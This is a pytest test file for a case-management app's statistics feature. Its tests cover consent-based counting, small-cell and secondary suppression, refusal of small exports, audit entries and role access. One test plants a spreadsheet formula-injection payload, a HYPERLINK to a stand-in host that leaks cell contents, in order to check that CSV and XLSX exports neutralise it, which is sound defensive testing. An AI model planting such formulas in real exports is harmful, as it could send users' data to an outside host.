"""Shared case statistics: who is counted, what each channel shows, what is suppressed, refused and audited."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from hamkor.cases import services
from hamkor.cases.models import Case
from hamkor.cases.services.retention import anonymise_case
from hamkor.cases.statistics import (
    MAX_AGE,
    REFRESH,
    StatisticsFilter,
    refresh_statistics,
    refusal_reason,
    statistics,
)
from hamkor.cases.suppression import SMALL, WITHHELD, suppress_table
from hamkor.cases.tests.factories import mother_and_children
from hamkor.cases.tests.statistics_factories import aggregate
from hamkor.cases.tests.statistics_factories import assess as _assess
from hamkor.cases.tests.statistics_factories import every_domain as _all
from hamkor.cases.tests.statistics_factories import register as _register
from hamkor.core.audit import verify_chain
from hamkor.core.models import AuditEntry

API = "/api/v1/cases/statistics/"
DASHBOARD = reverse("cases:statistics_dashboard")
CSV = reverse("cases:statistics_csv")
XLSX = reverse("cases:statistics_xlsx")


pytestmark = pytest.mark.usefixtures("statistics_cache")


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def _xlsx_values(response) -> list[object]:
    book = load_workbook(io.BytesIO(response.content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for cell in row]


def _table(stats, key: str) -> dict[str, object]:
    table = next(t for t in stats.tables if t.key == key)
    return {row.key: row.count for row in table.rows}


# --- who is counted -----------------------------------------------------------------------------------------


def test_counts_by_status_sex_age_time_and_region_are_correct(worker, analyst):
    family = mother_and_children(worker)  # mother 34, son 12, daughter 4
    mother = family["mother"]
    services.record_consent(worker, mother, "statistics", text_version="2025-1", given_on=date.today())
    for child in ("son", "daughter"):
        services.record_consent(
            worker,
            family[child],
            "statistics",
            text_version="2025-1",
            given_on=date.today(),
            guardian=mother,
            child_assent=True if child == "son" else None,
        )
    services.record_consent(worker, mother, "services", text_version="2025-1", given_on=date.today())
    services.transition_case(worker, family["mother_case"], "assessment")
    _register(worker, 1, sex="male", age=60)
    _register(worker, 1, sex="male", age=59)
    long_ago = datetime.now(UTC) - timedelta(days=400)
    (older,) = _register(worker, 1, sex="male", age=18, now=long_ago)
    (closed,) = _register(worker, 1, age=40, now=long_ago - timedelta(days=400))
    services.transition_case(worker, closed, "closed", closure="other", now=long_ago - timedelta(days=350))
    Case.objects.filter(pk=older.pk).update(region="Fergana")  # no service sets a region yet
    _register(worker, 2, consent=False)

    raw = aggregate(analyst, StatisticsFilter(), on=date.today())

    assert raw.cases == 7
    assert raw.status == {
        "registration": 5,
        "assessment": 1,
        "planning": 0,
        "services": 0,
        "review": 0,
        "closed": 1,
    }
    assert raw.sex == {"female": 3, "male": 4}
    assert raw.age == {
        "0-4": 1,
        "5-11": 0,
        "12-17": 1,
        "18-24": 1,
        "25-34": 1,
        "35-44": 1,
        "45-59": 1,
        "60plus": 1,
    }
    # The closed case ran 50 days; the case opened 400 days ago is still open.
    assert raw.time == {"under-3": 6, "3-6": 0, "6-12": 0, "12-24": 1, "24plus": 0}
    assert raw.country == {"UZ": 7}
    assert raw.region == {("UZ", ""): 6, ("UZ", "Fergana"): 1}


def test_filters_narrow_every_table(worker, analyst):
    _register(worker, 5, sex="female", age=30)
    _register(worker, 6, sex="male", age=50)
    on = date.today()

    assert aggregate(analyst, StatisticsFilter(sex="male"), on=on).cases == 6
    assert aggregate(analyst, StatisticsFilter(age_band="25-34"), on=on).sex == {"female": 5, "male": 0}
    assert aggregate(analyst, StatisticsFilter(status="closed"), on=on).cases == 0
    assert aggregate(analyst, StatisticsFilter(year_opened=on.year), on=on).cases == 11
    assert aggregate(analyst, StatisticsFilter(year_opened=on.year - 1), on=on).cases == 0
    assert aggregate(analyst, StatisticsFilter(country="KZ"), on=on).cases == 0


def test_person_without_statistics_consent_is_not_counted(worker, analyst):
    _register(worker, 5)
    (only_services,) = _register(worker, 1, consent=False)
    services.record_consent(worker, only_services.person, "services", text_version="2025-1", given_on=date.today())

    assert statistics(analyst, StatisticsFilter()).cases == 5


def test_withdrawn_statistics_consent_is_no_longer_counted(worker, analyst):
    cases = _register(worker, 6)
    assert statistics(analyst, StatisticsFilter()).cases == 6

    consent = cases[0].person.consents.get(purpose="statistics")
    services.withdraw_consent(worker, consent, reason="She no longer wants to be counted.")
    refresh_statistics()  # what the worker does every ten minutes

    assert statistics(analyst, StatisticsFilter()).cases == 5


def test_anonymised_case_still_counts(worker, analyst):
    years_back = datetime.now(UTC) - timedelta(days=7 * 365)
    (old,) = _register(worker, 1, now=years_back)
    services.transition_case(worker, old, "closed", closure="other", now=years_back + timedelta(days=300))
    anonymise_case(None, old)  # five years after closure
    _register(worker, 4)

    old.person.refresh_from_db()
    assert old.person.identity is None
    stats = statistics(analyst, StatisticsFilter())
    assert stats.cases == 5 and _table(stats, "status")["closed"] == SMALL


def test_national_analyst_sees_only_their_country(worker, analyst, make_user, client_for):
    _register(worker, 5)
    _register(make_user("case_worker", "kz"), 7)
    global_analyst = make_user("analyst", "un")

    national = statistics(analyst, StatisticsFilter())
    assert national.cases == 5 and _table(national, "country") == {"UZ": 5}
    assert statistics(analyst, StatisticsFilter(country="KZ")).refused  # none, answered as 1 to 4 would be
    everywhere = statistics(global_analyst, StatisticsFilter())
    assert everywhere.cases == 12 and _table(everywhere, "country") == {"KZ": 7, "UZ": 5}

    page = client_for(analyst).get(DASHBOARD).content.decode()
    assert "Uzbekistan" in page and "Kazakhstan" not in page
    api = client_for(analyst).get(API).json()
    assert api["cases"] == 5


# --- suppression --------------------------------------------------------------------------------------------


def test_small_cell_shows_as_under_five_on_page_csv_xlsx_and_api(worker, analyst, client_for):
    _register(worker, 5, sex="female")
    _register(worker, 3, sex="male")
    client = client_for(analyst)

    page = client.get(DASHBOARD).content.decode()
    assert '<th scope="row">Male</th><td>&lt;5</td>' in page

    rows = _csv_rows(client.get(CSV))
    assert ["Male", SMALL] in rows and not any(row[-1:] == ["3"] for row in rows)

    values = _xlsx_values(client.get(XLSX))
    assert SMALL in values and 3 not in values

    api = client.get(API).json()
    sex = next(t for t in api["tables"] if t["key"] == "sex")
    assert {r["key"]: r["count"] for r in sex["rows"]} == {"female": WITHHELD, "male": SMALL}
    assert sex["total"] == 8


def test_secondary_suppression_hides_the_next_smallest_cell():
    assert suppress_table([3, 6, 10], 19).cells == (SMALL, WITHHELD, 10)
    # Two small cells keep each other safe ...
    assert suppress_table([3, 2, 12], 17).cells == (SMALL, SMALL, 12)
    # ... unless their sum gives them away: 1 + 1 = 2, or 4 + 4 = 8.
    assert suppress_table([1, 1, 10], 12).cells == (SMALL, SMALL, WITHHELD)
    assert suppress_table([4, 4, 9, 20], 37).cells == (SMALL, SMALL, WITHHELD, 20)
    # A "<5" and a withheld cell summing to 6 can only be 1 and 5: a third cell goes too.
    assert suppress_table([1, 5, 8], 14).cells == (SMALL, WITHHELD, WITHHELD)
    # Zero is shown, and a table without a small cell is shown whole.
    assert suppress_table([0, 7, 9], 16).cells == (0, 7, 9)


def test_table_that_cannot_be_protected_is_withheld_whole():
    published = suppress_table([4, 4], 8)
    assert published.withheld and published.cells == (WITHHELD, WITHHELD)


def test_secondary_suppression_reaches_every_channel(worker, analyst, client_for):
    _register(worker, 5, sex="female")
    _register(worker, 3, sex="male")
    client = client_for(analyst)

    assert '<th scope="row">Female</th><td>[c]</td>' in client.get(DASHBOARD).content.decode()
    assert ["Female", WITHHELD] in _csv_rows(client.get(CSV))
    assert WITHHELD in _xlsx_values(client.get(XLSX))


def test_region_cells_cannot_be_recovered_from_the_country_totals(worker, make_user):
    for region, count in (("Tashkent", 9), ("Fergana", 3)):
        cases = _register(worker, count)
        Case.objects.filter(pk__in=[c.pk for c in cases]).update(region=region)  # no service sets a region yet
    _register(make_user("case_worker", "kz"), 7)

    stats = statistics(make_user("analyst", "un"), StatisticsFilter())

    assert _table(stats, "country") == {"UZ": 12, "KZ": 7}
    # Uzbekistan's 12 minus a shown Tashkent would give Fergana away, so Tashkent is withheld too.
    assert _table(stats, "region") == {"UZ:Fergana": SMALL, "UZ:Tashkent": WITHHELD, "KZ:": 7}


def test_domain_progress_compares_first_and_latest_scores(worker, analyst):
    cases = _register(worker, 10)
    for case in cases[:3]:
        _assess(worker, case, _all(1), _all(3), _all(2, psychosocial=1))  # latest 2 > first 1, except one
    for case in cases[3:5]:
        _assess(worker, case, _all(3), _all(3))
    for case in cases[5:]:
        _assess(worker, case, _all(2))  # one assessment: no progress to measure

    stats = statistics(analyst, StatisticsFilter())

    assert stats.progress_cases == 5
    rows = {row.domain: row for row in stats.progress}
    education = rows["education"]
    assert (education.cases, education.higher, education.same, education.lower) == (5, SMALL, SMALL, 0)
    assert (education.mean_first, education.mean_latest) == (1.8, 2.4)  # (1+1+1+3+3)/5, (2+2+2+3+3)/5
    psychosocial = rows["psychosocial"]
    assert (psychosocial.higher, psychosocial.same, psychosocial.lower) == (0, 5, 0)


def test_progress_is_withheld_when_the_cases_without_it_are_fewer_than_five(worker, analyst):
    cases = _register(worker, 8)
    for case in cases[:6]:
        _assess(worker, case, _all(1), _all(2))

    stats = statistics(analyst, StatisticsFilter())

    # 8 cases, 6 with two assessments: showing the 6 would tell that 2 have fewer.
    assert stats.cases == 8 and stats.progress_cases == WITHHELD
    for row in stats.progress:
        assert {row.cases, row.higher, row.same, row.lower, row.mean_first, row.mean_latest} == {WITHHELD}


def test_progress_over_fewer_than_five_cases_is_suppressed(worker, analyst):
    cases = _register(worker, 5)
    for case in cases[:3]:
        _assess(worker, case, _all(1), _all(2))

    stats = statistics(analyst, StatisticsFilter())

    assert stats.cases == 5 and stats.progress_cases == SMALL
    for row in stats.progress:
        assert {row.cases, row.higher, row.same, row.lower, row.mean_first, row.mean_latest} == {SMALL}


# --- refusal, audit, access ---------------------------------------------------------------------------------


def test_filter_selecting_three_cases_is_refused_for_export_and_api(worker, analyst, client_for):
    _register(worker, 5, sex="female")
    _register(worker, 3, sex="male")
    client = client_for(analyst)
    exports_before = AuditEntry.objects.order_by("-seq").values_list("seq", flat=True).first() or 0

    for url in (CSV, XLSX):
        refused = client.get(url, {"sex": "male"})
        assert refused.status_code == 422
        assert refused["Content-Type"].startswith("text/html")
        assert "the filter selects fewer than 5 cases" in refused.content.decode()
    answer = client.get(API, {"sex": "male"})
    assert answer.status_code == 422 and answer["Content-Type"] == "application/problem+json"
    assert answer.json()["detail"] == refusal_reason()
    page = client.get(DASHBOARD, {"sex": "male"}).content.decode()
    assert "the filter selects fewer than 5 cases" in page and "<table" not in page

    refusals = AuditEntry.objects.filter(action="statistics.export", seq__gt=exports_before)
    assert [e.details for e in refusals.order_by("seq")] == [
        {"filter": {"sex": "male"}, "refused": True, "format": "csv"},
        {"filter": {"sex": "male"}, "refused": True, "format": "xlsx"},
    ]


def test_every_export_writes_an_audit_entry_with_its_filter(worker, analyst, client_for):
    _register(worker, 5, sex="female")
    client = client_for(analyst)

    assert client.get(CSV, {"sex": "female", "age_band": "25-34"}).status_code == 200
    assert client.get(XLSX).status_code == 200

    entries = AuditEntry.objects.filter(action="statistics.export").order_by("seq")
    assert [(e.actor_id, e.details) for e in entries] == [
        (analyst.pk, {"filter": {"sex": "female", "age_band": "25-34"}, "refused": False, "format": "csv"}),
        (analyst.pk, {"filter": {}, "refused": False, "format": "xlsx"}),
    ]
    assert verify_chain()[0] is None


def test_formula_in_a_region_name_is_neutralised_in_csv_and_xlsx(worker, analyst, client_for):
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    for region, count in ((hyperlink, 5), ("+1", 6)):
        cases = _register(worker, count)
        Case.objects.filter(pk__in=[c.pk for c in cases]).update(region=region)  # no service sets a region yet
    client = client_for(analyst)

    rows = _csv_rows(client.get(CSV))
    assert ["Uzbekistan", "'" + hyperlink, "5"] in rows and ["Uzbekistan", "'+1", "6"] in rows

    book = load_workbook(io.BytesIO(client.get(XLSX).content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    texts = {cell.value for cell in cells}
    assert "'" + hyperlink in texts and "'+1" in texts
    assert not any(cell.data_type == "f" for cell in cells)


def test_case_workers_and_council_experts_are_refused(persona, client_for):
    for role in ("case_worker", "council_expert"):
        client = client_for(persona[role])
        for url in (DASHBOARD, CSV, XLSX, API):
            assert client.get(url).status_code == 403, (role, url)


def test_programme_officer_sees_the_dashboard_but_may_not_export(persona, client_for):
    _register(persona["case_worker"], 5)
    client = client_for(persona["programme_officer"])
    page = client.get(DASHBOARD)
    assert page.status_code == 200 and CSV not in page.content.decode()
    assert client.get(CSV).status_code == 403
    assert client.get(API).status_code == 200


def test_invalid_filter_is_explained_not_guessed(analyst, client_for):
    client = client_for(analyst)
    answer = client.get(API, {"sex": "unknown"})
    assert answer.status_code == 422 and answer.json()["errors"][0]["field"] == "sex"
    assert client.get(CSV, {"age_band": "7-9"}).status_code == 422
    assert "Correct the filter" in client.get(DASHBOARD, {"year_opened": "1850"}).content.decode()


# --- the page and its cost ----------------------------------------------------------------------------------


def test_dashboard_shows_charts_with_table_fallbacks_and_no_script(worker, analyst, client_for):
    _register(worker, 6)
    page = client_for(analyst).get(DASHBOARD).content.decode()

    assert page.count('<svg xmlns="http://www.w3.org/2000/svg" class="chart"') == 6
    assert page.count("<caption>") == 6
    assert 'role="img"' in page and "<desc " in page
    assert "<script" not in page and "http://" not in page.replace("http://www.w3.org/2000/svg", "")
    assert f'href="{CSV}"' in page


def test_navigation_offers_statistics_to_analysts_only(persona, client_for):
    assert DASHBOARD in client_for(persona["analyst"]).get(reverse("core:dashboard")).content.decode()
    assert DASHBOARD not in client_for(persona["case_worker"]).get(reverse("core:dashboard")).content.decode()


@pytest.mark.django_db
def test_statistics_take_the_same_number_of_queries_for_more_cases(worker, analyst):
    def queries() -> int:
        cache.clear()
        with CaptureQueriesContext(connection) as captured:
            statistics(analyst, StatisticsFilter())
        return len(captured.captured_queries)

    for case in _register(worker, 5):
        _assess(worker, case, _all(1), _all(2))
    few = queries()
    for case in _register(worker, 7, sex="male"):
        _assess(worker, case, _all(2), _all(2), _all(3))

    assert queries() == few <= 7  # the cube's queries and the country names, whatever the number of cases


def test_figures_are_as_of_a_recent_moment_and_refresh(worker, analyst):
    _register(worker, 5)
    first = statistics(analyst, StatisticsFilter())
    with CaptureQueriesContext(connection) as captured:
        again = statistics(analyst, StatisticsFilter())
    assert len(captured.captured_queries) <= 2 and again.as_of == first.as_of  # served as computed

    _register(worker, 1)
    assert statistics(analyst, StatisticsFilter()).cases == 5  # still the figures as of that moment
    assert refresh_statistics() >= 2  # all countries and Uzbekistan
    refreshed = statistics(analyst, StatisticsFilter())
    assert refreshed.cases == 6 and refreshed.as_of is not None and refreshed.as_of > first.as_of


def test_figures_older_than_the_limit_are_recomputed_on_request(worker, analyst):
    _register(worker, 5)
    statistics(analyst, StatisticsFilter())
    _register(worker, 1)
    later = timezone.now() + MAX_AGE + timedelta(seconds=1)
    recomputed = statistics(analyst, StatisticsFilter(), now=later)
    assert recomputed.cases == 6 and recomputed.as_of == later


def test_statistics_refresh_is_scheduled():
    from hamkor.core.schedule import PERIODIC

    assert PERIODIC["cases.refresh_statistics"].every == REFRESH
